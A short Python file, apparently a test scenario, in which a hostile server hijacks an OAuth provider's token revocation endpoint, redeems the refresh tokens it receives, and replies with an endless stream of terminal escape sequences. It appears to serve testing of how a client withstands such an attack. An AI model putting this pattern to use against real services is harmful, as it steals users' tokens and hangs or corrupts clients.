"""Somebody has got hold of the provider's revocation endpoint: it redirects to a server of theirs, which takes the tokens,
and answers without an end."""

import at_provider
from hostile import Hostile
from web import Answer, Request

server = Hostile()


def body():
    while True:
        yield b"\x1b[2J\x1b]0;owned\x07" * 1024


def take(request: Request) -> Answer:
    server.redeem("refresh token", {"grant_type": "refresh_token", "refresh_token": request.form.get("token", "")})
    return Answer(400, body=body(), headers={"Content-Type": "text/plain"})


server.route("/revoke", take)
if not server.honest:
    at_provider.take_over("/revoke", server.url("/revoke"))
server.run()
